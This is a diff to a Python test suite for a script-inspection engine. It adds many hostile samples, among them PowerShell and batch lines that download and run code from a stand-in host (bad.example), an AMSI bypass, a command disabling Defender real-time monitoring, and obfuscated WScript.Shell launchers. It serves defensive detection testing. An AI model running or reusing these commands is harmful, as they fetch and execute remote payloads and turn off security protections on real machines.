@@ -1,4 +1,5 @@
 import base64
+import struct
 import time
 from collections.abc import Callable
 from pathlib import Path
@@ -10,6 +11,12 @@ from sample_analysis.engines.inspection import Inspection, run
 from sample_analysis.engines.programs import scripts
 
 Examine = Callable[..., Any]
+
+
+PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".ljust(200, b"\1")
+RUNS = "new ActiveXObject('WScript.Shell').Run('calc')"
+PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0\x4c\x01".ljust(120, b"\0")
+PROGRAM_AS_TEXT = base64.b64encode(PROGRAM).decode()
 
 
 def rules(report: Any) -> set[str]:
@@ -44,6 +51,27 @@ def test_data_that_a_script_decodes_is_a_child(examine: Examine, eicar: bytes) -
             "a.js",
             "var s = new ActiveXObject('x');\nrun('mshta.exe https://bad.example/a')",
         ),
+        ("a.ps1", "&($x) ((New-Object Net.WebClient).('Down'+'loadString').Invoke('http://bad.example/x'))"),
+        ("a.ps1", "iwr http://bad.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"),
+        ("a.ps1", "irm http://bad.example/x | iex"),
+        ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')"),
+        ("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"),
+        ("a.bat", '@echo off\r\nset x=power\r\nset y=shell\r\n%x%%y% -nop -c "iwr http://bad.example/a -o a.bin"\r\n'),
+        ("a.bat", "@echo off\r\ncurl -s -o %temp%\\a.exe http://bad.example/a.exe && start %temp%\\a.exe\r\n"),
+        ("a.js", "var a='W'+'Scr'+'ipt.S'+'hell';var b=new ActiveXObject(a);b['R'+'un']('cmd /c calc');"),
+        ("a.js", "var a=['\\x57\\x53\\x63ript.Shell'];new ActiveXObject(a[0]).Run('calc');"),
+        ("a.js", f"eval(String.fromCharCode({','.join(str(ord(one)) for one in RUNS)}))"),
+        ("a.vbs", 'Set o=CreateObject(StrReverse("llehS.tpircSW")):o.Run "calc"'),
+        ("a.vbs", 'GetObject("script:http://bad.example/a.sct")'),
+        ("a.hta", f"<script language=vbscript>{RUNS}</script>"),
+        ("a.sct", f"<scriptlet><registration/><script language='JScript'>{RUNS}</script></scriptlet>"),
+        ("a.xsl", f"<stylesheet><ms:script language='JScript'>{RUNS}</ms:script></stylesheet>"),
+        ("a.js", f"var a='{PROGRAM_AS_TEXT}';"),
+        (
+            "a.bat",
+            f"@echo off\r\nrem\r\n-----BEGIN CERTIFICATE-----\r\n{PROGRAM_AS_TEXT}\r\n-----END CERTIFICATE-----\r\n",
+        ),
+        ("a.ps1", f"[Byte[]]$a = @({','.join(str(one) for one in PROGRAM)})\nSet-Content -Path a -Value $a\n"),
     ],
 )
 def test_hidden_or_hostile_commands_are_suspicious(examine: Examine, name: str, text: str) -> None:
@@ -60,6 +88,16 @@ def test_hidden_or_hostile_commands_are_suspicious(examine: Examine, name: str, 
             "logon.vbs",
             'Option Explicit\nDim net\nSet net = CreateObject("WScript.Network")\nnet.MapNetworkDrive "H:"\n',
         ),
+        (
+            "install.vbs",
+            'Set shell = CreateObject("WScript.Shell")\nshell.Run "setup.exe /quiet" & " " & "/norestart", 1, True\n',
+        ),
+        (
+            "fetch.bat",
+            '@echo off\r\npowershell -Command "Invoke-WebRequest https://good.example/a.zip -OutFile a"\r\n',
+        ),
+        ("old.js", "var x = window.XMLHttpRequest ? 1 : new ActiveXObject('Microsoft.XMLHTTP');\nvar a = 'x' + 'y';\n"),
+        ("logo.js", f"var a = 'data:image/png;base64,{base64.b64encode(PNG).decode()}';\nfunction f() {{}}\n"),
         ("run.sh", "#!/bin/sh\nset -e\nmake -e test\ncurl -e https://good.example/ https://good.example/file\n"),
     ],
 )
@@ -76,6 +114,12 @@ def test_everyday_scripts_are_not_suspicious(examine: Examine, name: str, text: 
         "-e " + "A" * 3_000_000,
         "%a:~" * 500_000,
         "\n" * 2_000_000,
+        "'{0}{1}'-f'a'," * 10_000,
+        "set a=%a%%a%%a%\n" * 10_000,
+        "set a=" + "b" * 1000 + "\n" + "%a%" * 50_000,
+        ("A" * 60 + "\n") * 30_000,
+        "[1," * 50_000,
+        "curl http://a " * 10_000,
     ],
 )
 def test_hostile_scripts_end(inspection: Callable[..., Inspection], text: str) -> None:
@@ -85,6 +129,13 @@ def test_hostile_scripts_end(inspection: Callable[..., Inspection], text: str) -
     assert time.process_time() - started < 30
     # Stopped by the clock it would have ended too, whatever its cost.
     assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}
+
+
+def test_what_is_put_together_is_read_and_told(examine: Examine) -> None:
+    text = "$r='ex'+'e.x/elpmaxe.dab//:ptth';$u=-join($r[-1..-99]);$w.'Download`Data'($u)"
+    report = examine(text.encode(), "a.ps1")
+    assert "hidden-commands" in rules(report)
+    assert [url.url for url in report.parsed.urls] == ["http://bad.example/x.exe"]
 
 
 def test_the_scripts_of_the_corpora_are_ordinary(corpora: Path, examine: Examine) -> None:
